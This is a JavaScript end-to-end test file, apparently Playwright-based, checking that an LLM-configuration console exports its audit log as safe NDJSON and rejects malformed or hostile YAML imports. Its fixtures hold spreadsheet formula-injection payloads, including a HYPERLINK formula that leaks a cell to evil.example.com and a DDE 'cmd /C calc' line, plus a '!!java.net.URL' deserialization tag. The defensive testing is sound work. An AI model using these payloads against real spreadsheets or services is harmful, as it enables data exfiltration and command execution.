import { readFileSync } from 'node:fs';
import { check, equal, scenario } from '../harness.mjs';
import { withModels } from './40-chat.mjs';

/** What a spreadsheet would run, in every way it would begin. */
const FORMULAS = ['=HYPERLINK("https://evil.example.com/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(1+1)', '\t=1+1', '=1+1,"; drop', 'x\u2028=1+1', '{"result":"Done"}'];

scenario('51 the export of the audit opens harmlessly: a line for each entry, and no formula is a cell', { expects: [400, 422, 404] }, async (at) => {
  const { page, signIn, api, axe, base } = at;
  for (const [number, text] of FORMULAS.entries()) {
    const made = await api('POST', '/config/api-keys', { name: `formula-${number}`, provider: 'Echo', displayName: text });
    check([201, 422].includes(made.status), made.text);
    if (made.status === 422) {
      equal((await api('POST', '/config/api-keys', { name: `formula-${number}`, provider: 'Echo' })).status, 201, text);
    }
    await api('PATCH', `/config/api-keys/default.formula-${number}`, { displayName: `${text} again` });
  }
  // Refused attempts are entries, too, and carry what was asked for.
  await api('PATCH', `/config/api-keys/default.${encodeURIComponent('=1+1')}`, { displayName: 'x' });
  await signIn('#/audit');
  await page.getByRole('heading', { level: 1, name: 'Audit' }).waitFor();
  await page.getByRole('row').filter({ hasText: 'formula-0' }).first().waitFor();
  await page.getByText('fields', { exact: false }).first().waitFor();
  await axe('audit, formulas');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /Export/ }).click()]);
  check(/^audit-[\w-]+\.ndjson$/.test(download.suggestedFilename()), download.suggestedFilename());
  const text = readFileSync(await download.path(), 'utf8');
  const lines = text.split('\n').filter((line) => line !== '');
  const { json } = await api('GET', '/audit?limit=500');
  check(lines.length >= 2 * FORMULAS.length, `${lines.length} lines`);
  check(Math.abs(lines.length - json.total) <= 3, `${lines.length} lines for ${json.total} entries`);
  for (const line of lines) {
    // However a spreadsheet cuts it, by line, or by any of the line ends that it knows.
    for (const piece of line.split(/\r|\u2028|\u2029|\u0085|\v|\f/)) {
      check(!/^[\s"]*[=+\-@]/.test(piece), `a line begins with ${piece.slice(0, 20)}`);
    }
    check(/^\{"/.test(line), `a line begins with ${line.slice(0, 20)}`);
    const entry = JSON.parse(line);
    check(typeof entry.at === 'string' && typeof entry.action === 'string', line);
  }
  const told = lines.map((line) => JSON.parse(line)).flatMap((one) => one.changes ?? []).map((one) => one.to);
  check(told.some((one) => typeof one === 'string' && one.startsWith('=HYPERLINK')), 'a formula is told as it is, as a value of JSON');
  const direct = await fetch(new URL('api/audit', base), { headers: { authorization: `Bearer ${at.token}`, accept: 'application/x-ndjson' } });
  check(direct.headers.get('content-type').startsWith('application/x-ndjson'), direct.headers.get('content-type'));
  equal(direct.headers.get('x-content-type-options'), 'nosniff');
  await direct.body.cancel();
});

async function exported(page, form = 'As they are stored') {
  await page.getByRole('button', { name: 'Export and import' }).click();
  await page.getByRole('menuitem', { name: 'Export for Git' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export for Git' });
  await dialog.getByRole('radio', { name: form }).check({ force: true });
  const [download] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: 'Download' }).click()]);
  await dialog.getByRole('button', { name: 'Close' }).last().click();
  await dialog.waitFor({ state: 'hidden' });
  return readFileSync(await download.path(), 'utf8');
}

async function importing(page) {
  await page.getByRole('button', { name: 'Export and import' }).click();
  await page.getByRole('menuitem', { name: 'Import' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import' });
  const area = dialog.getByLabel('YAML, or the lines of an .env file');
  return { dialog, area, check: () => dialog.getByRole('button', { name: 'Check' }).click(), take: dialog.getByRole('button', { name: 'Import', exact: true }) };
}

scenario('63 an export that is imported changes nothing; broken YAML is told by its line, and nothing is written', { expects: [400, 422] }, async (at) => {
  const { page, signIn, api, axe, picture } = at;
  await withModels(at, 'gpt-5-mini', 'claude-sonnet-4-5');
  await api('POST', '/config/api-keys', { name: 'free', provider: 'Echo', displayName: 'Ünïcode: "x" # no comment' });
  const all = async () => JSON.stringify((await Promise.all(['/config/api-keys?limit=500', '/config/model-configs?limit=500'].map((path) => api('GET', path)))).flatMap(({ json }) => json.items.map(({ id, generation, rv }) => [id, generation, rv])));
  await signIn('#/keys');
  await page.getByRole('row').filter({ hasText: 'free' }).getByText('Ready').waitFor();
  const yaml = await exported(page);
  equal(await exported(page), yaml, 'a second export');
  const before = await all();

  let way = await importing(page);
  await way.area.fill(yaml);
  await way.check();
  await way.dialog.getByText('All of it is there already; nothing would change.').waitFor();
  equal(await way.take.count(), 0, 'buttons that would import nothing');
  await axe('import, unchanged');
  await picture('keys-import-unchanged');
  equal(await all(), before, 'the objects after a check');
  const sent = await api('POST', '/import', yaml, { 'content-type': 'application/yaml' });
  equal([sent.status, sent.json.created, sent.json.changed], [200, [], []], 'an import in earnest');
  equal(sent.json.unchanged.length, 4, 'what is there already');
  equal(await all(), before, 'the objects after an import');

  // From a file, too.
  await way.dialog.getByLabel('Or a file').setInputFiles({ name: 'export.yaml', mimeType: 'application/yaml', buffer: Buffer.from(yaml) });
  equal(await way.area.inputValue(), yaml, 'the text of the file');

  const good = 'apiVersion: llmconfig.dev/v1alpha1\nkind: ApiKeyConfig\nmetadata: {name: fresh, namespace: default}\nspec: {provider: Echo}\n';
  const refusals = {
    'a bracket that is not closed': [`${good}---\nkind: ApiKeyConfig\nmetadata: {name: x\nspec: {provider: Echo}\n`, /line 8|line 9|line 7/i],
    'a tab': [`${good}---\napiVersion: llmconfig.dev/v1alpha1\nkind: ApiKeyConfig\nmetadata:\n\tname: x\n`, /line 9/i],
    'an unknown field': [`${good}---\n${good.replace('fresh', 'other').replace('provider: Echo', 'provider: Echo, endpiont: x')}`, /endpiont/],
    'an unknown provider': [`${good}---\n${good.replace('fresh', 'other').replace('Echo', 'Ekho')}`, /Ekho|provider/],
    'a custom tag': [`${good}---\nkind: !!java.net.URL [x]\n`, /tag|line/i],
    'the same name twice': [`${good}---\n${good}`, /fresh|twice|more than once/i],
    'a key under another name': [yaml.replaceAll('name: fake\n', 'name: stolen\n').replaceAll('name: "fake"', 'name: "stolen"'), /bound|another|stolen/i],
    'something else': ['just some words', /./],
  };
  for (const [what, [text, told]] of Object.entries(refusals)) {
    await way.area.fill(text);
    await way.check();
    const alert = way.dialog.getByRole('alert');
    await alert.waitFor();
    const said = await alert.innerText();
    check(told.test(said), `${what}: ${said}`);
    check(!/Exception|snakeyaml|jackson|<unicode|com\.|org\./i.test(said), `${what}: ${said}`);
    equal(await way.take.count(), 0, `buttons that would import ${what}`);
    equal(await all(), before, `the objects after ${what}`);
    const direct = await api('POST', '/import', text, { 'content-type': 'application/yaml' });
    check([400, 422].includes(direct.status), `${what}: ${direct.status} ${direct.text.slice(0, 200)}`);
    equal(await all(), before, `the objects after ${what} in earnest`);
    if (what === 'a tab') {
      await axe('import, refused');
      await picture('keys-import-refused');
    }
  }

  // And one that is right does what was shown.
  await way.area.fill(`${good}---\n${good.replace('fresh', 'free')}`);
  await way.check();
  await way.dialog.getByText('Created (1)').waitFor();
  await way.dialog.getByText('Changed (1)').waitFor();
  await way.take.click();
  await way.dialog.waitFor({ state: 'hidden' });
  await page.getByRole('row').filter({ hasText: 'fresh' }).getByText('Ready').waitFor();
  way = undefined;
});
